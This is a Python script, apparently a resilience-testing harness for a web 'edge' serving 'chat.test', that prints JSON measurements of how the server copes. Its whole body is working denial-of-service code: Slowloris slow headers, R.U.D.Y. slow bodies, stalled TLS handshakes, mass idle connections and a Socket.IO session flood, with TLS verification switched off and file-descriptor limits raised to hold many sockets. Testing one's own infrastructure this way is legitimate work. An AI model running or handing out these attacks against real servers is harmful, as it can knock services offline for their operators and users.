#!/usr/bin/env python3
"""Attacks on an edge, one a call, with Python's standard library: attack.py ADDRESS ATTACK [NUMBER] → a JSON object.

`held`      connections that the edge took
`refused`   connections that it closed or reset at once
`ended`     seconds until it had answered or closed each that was held, null where it had not within 15 seconds
`answers`   status of an answer (or `closed`) → how often
"""

from __future__ import annotations

import asyncio
import collections
import contextlib
import json
import socket
import ssl
import sys
import time

HOST = "chat.test"
PATIENCE = 15

Opened = tuple[asyncio.StreamReader, asyncio.StreamWriter]


def context() -> ssl.SSLContext:
    """TLS that trusts anybody: the edge is the victim here."""
    made = ssl.create_default_context()
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    return made


async def connect(address: str, secure: bool = True) -> Opened | None:
    """A connection, or None where it was refused."""
    extra = {"ssl": context(), "server_hostname": HOST} if secure else {}
    try:
        return await asyncio.wait_for(asyncio.open_connection(address, 443, **extra), 30)
    except (OSError, asyncio.TimeoutError, ssl.SSLError):
        return None


async def ending(opened: Opened) -> str:
    """The status of the edge's answer, or `closed`."""
    with contextlib.suppress(OSError, ssl.SSLError):
        if (data := await opened[0].read(4096)).startswith(b"HTTP/1"):
            return data[9:12].decode()
    with contextlib.suppress(OSError, ssl.SSLError):
        opened[1].close()
    return "closed"


async def hold(address: str, number: int, first: bytes, more: bytes, secure: bool = True) -> dict:
    """Open many connections, send `first` on each, then `more` each second, and see how long the edge has patience."""
    gate = asyncio.Semaphore(20)  # all at once, they would keep each other from ending their handshakes

    async def one() -> tuple[str, float] | None:
        async with gate:
            opened = await connect(address, secure)
        if not opened:
            return None
        began = time.monotonic()

        async def drip() -> None:
            with contextlib.suppress(OSError, ssl.SSLError):
                opened[1].write(first)
                while more:
                    await asyncio.sleep(1)
                    opened[1].write(more)

        drips = asyncio.create_task(drip())
        try:
            return await asyncio.wait_for(ending(opened), PATIENCE), time.monotonic() - began
        except asyncio.TimeoutError:
            return "", PATIENCE
        finally:
            drips.cancel()

    held = [result for result in await asyncio.gather(*(one() for _ in range(number))) if result]
    answers = collections.Counter(answer for answer, _seconds in held if answer)
    longest = max((seconds for _answer, seconds in held), default=0)
    return {
        "held": len(held),
        "refused": number - len(held),
        "ended": round(longest, 1) if answers.total() == len(held) else None,
        "answers": answers,
    }


def slow_headers(address: str, number: int) -> dict:
    """A header a second, without end (Slowloris)."""
    return asyncio.run(hold(address, number, f"GET / HTTP/1.1\r\nHost: {HOST}\r\n".encode(), b"X-More: a\r\n"))


def slow_bodies(address: str, number: int) -> dict:
    """A byte of the body a second (R.U.D.Y.)."""
    head = f"POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 10000\r\n\r\n"
    return asyncio.run(hold(address, number, head.encode(), b"a"))


def slow_handshakes(address: str, number: int) -> dict:
    """The head of a TLS record, and no more."""
    return asyncio.run(hold(address, number, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"", secure=False))


def idle_connections(address: str, number: int) -> dict:
    """Connections that never say a word, many from one address."""
    sockets = []
    for _ in range(number):
        connection = socket.socket()
        connection.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            connection.connect((address, 443))
        sockets.append(connection)
        time.sleep(0.0002)

    def alive() -> int:
        count = 0
        for connection in sockets:
            try:
                count += connection.recv(1) != b""
            except BlockingIOError:
                count += 1
            except OSError:
                pass
        return count

    time.sleep(2)
    held = alive()
    began = time.monotonic()
    while alive() and time.monotonic() - began < PATIENCE:
        time.sleep(0.5)
    ended = None if alive() else round(time.monotonic() - began + 2, 1)
    return {"held": held, "refused": number - held, "ended": ended, "answers": {}}


def sessions(address: str, number: int) -> dict:
    """New Socket.IO sessions, as many as go, over a few connections."""
    request = f"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
    answers: collections.Counter = collections.Counter()

    async def flood(times: int) -> None:
        opened = await connect(address)
        for _ in range(times):
            if not opened:
                answers["closed"] += 1
                return
            reader, writer = opened
            try:
                writer.write(request)
                head = (await reader.readuntil(b"\r\n\r\n")).decode().lower()
                length = head.partition("content-length:")[2].split()
                await reader.readexactly(int(length[0]) if length else 0)
            except (OSError, EOFError, ssl.SSLError):
                answers["closed"] += 1
                opened = await connect(address)
                continue
            status = head[9:12]
            answers[status + (" retry-after" if "\nretry-after:" in head else "")] += 1
            if "connection: close" in head:
                writer.close()
                opened = await connect(address)

    async def run() -> None:
        await asyncio.gather(*(flood(number // 20) for _ in range(20)))

    asyncio.run(run())
    return {"held": 0, "refused": 0, "ended": None, "answers": answers}


ATTACKS = {
    "slow_headers": slow_headers,
    "slow_bodies": slow_bodies,
    "slow_handshakes": slow_handshakes,
    "idle_connections": idle_connections,
    "sessions": sessions,
}

if __name__ == "__main__":
    import resource

    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    print(json.dumps(ATTACKS[sys.argv[2]](sys.argv[1], int(sys.argv[3]))))
